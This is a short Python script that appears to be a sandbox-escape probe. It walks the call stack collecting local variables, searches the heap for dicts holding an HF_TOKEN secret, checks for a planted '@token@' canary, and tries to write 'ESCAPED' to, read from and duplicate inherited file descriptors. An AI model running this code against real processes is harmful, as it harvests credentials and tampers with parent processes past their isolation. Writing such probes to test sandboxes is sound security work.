"""Climbs the frames above it and searches the heap for descriptors, pipes and paths of its parents, and uses them."""

import gc
import os
import sys

frame, loot = sys._getframe(), []
while frame:
    loot.append({name: repr(value)[:80] for name, value in frame.f_locals.items()})
    frame = frame.f_back
loot += [repr(o) for o in gc.get_objects() if isinstance(o, dict) and "HF_TOKEN" in o]
used = []
for descriptor in range(4, 256):
    for use in (lambda d: os.write(d, b"ESCAPED"), lambda d: os.read(d, 1), os.fstat, os.dup):
        try:
            used.append((descriptor, use(descriptor)))
        except OSError:
            continue
raise SystemExit(f"ESCAPED {used}" if used else f"nothing {'@token@' in str(loot)}")
